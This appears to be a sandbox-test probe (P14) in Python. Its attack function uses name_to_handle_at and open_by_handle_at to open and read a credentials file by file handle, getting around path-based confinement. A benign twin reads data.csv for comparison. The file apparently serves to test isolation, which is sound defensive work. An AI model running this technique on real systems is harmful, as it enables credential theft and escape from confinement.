"""P14: a file handle of the credentials (name_to_handle_at), opened by open_by_handle_at."""

import ctypes
import os
import struct

from attempt import World, run, syscall
from names import AT_FDCWD, NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT


def attack(world: World) -> bytes:
    handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0), 128)
    mount = ctypes.c_int()
    syscall(NAME_TO_HANDLE_AT, AT_FDCWD, str(world.credentials).encode(), handle, ctypes.byref(mount), 0)
    folder = os.open(world.home, os.O_RDONLY | os.O_DIRECTORY)
    opened = syscall(OPEN_BY_HANDLE_AT, folder, handle, os.O_RDONLY)
    return os.read(opened, 4096)


def twin(world: World) -> bytes:
    folder = os.open(world.workspace, os.O_RDONLY | os.O_DIRECTORY)
    return os.read(os.open("data.csv", os.O_RDONLY, dir_fd=folder), 4096)


run("P14", attack, twin)
